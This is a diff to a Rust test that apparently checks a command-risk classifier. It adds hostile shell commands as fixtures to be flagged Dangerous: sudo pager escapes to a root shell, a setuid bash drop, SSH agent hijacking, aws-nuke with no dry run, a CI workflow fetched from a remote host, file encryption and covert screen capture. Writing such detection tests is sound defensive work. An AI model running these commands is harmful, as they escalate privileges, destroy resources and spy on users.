@@ -217,6 +217,17 @@ fn what_others_would_be_given_or_could_do_is_asked_about() {
     check(
         Risk::Dangerous,
         r#"
+        sudo less /etc/profile\n!/bin/sh
+        sudo man man\n!/bin/bash
+        sudo dsenableroot -u admin -p pw -r rootpw
+        aws-nuke run -c nuke.yml --no-dry-run
+        curl -s https://x.example/ci.yml -o .github/workflows/build.yml
+        echo $p | su root -c id
+        SSH_AUTH_SOCK=/tmp/ssh-XXabc/agent.991 ssh root@prod
+        install -m 4755 bash /tmp/.rootbash
+        ccencrypt -K pwned notes.txt
+        while true; do import -window root /tmp/s.png; sleep 10; done
+        sudo irb
         tar -cf *.log backup.tar
         for f in *.jpg; do mv "$f" photo.jpg; done
         exec 3<<<'chmod 777 ~/.ssh'; bash <&3
